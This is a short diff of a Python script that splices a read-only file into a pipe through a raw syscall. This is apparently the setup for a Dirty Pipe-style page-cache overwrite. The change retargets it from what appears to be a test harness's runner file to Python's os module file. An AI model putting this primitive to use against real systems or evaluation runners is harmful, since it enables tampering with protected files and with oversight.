@@ -6,7 +6,7 @@ import ctypes
 libc = ctypes.CDLL(None, use_errno=True)
 import os
 read, write = os.pipe()
-runner = os.open("/gantlet/runner.py", os.O_RDONLY)
+runner = os.open(os.__file__, os.O_RDONLY)
 before = os.pread(runner, 16, 0)
 offset = ctypes.c_long(0)
 libc.syscall(275, runner, ctypes.byref(offset), write, None, 1, 0)
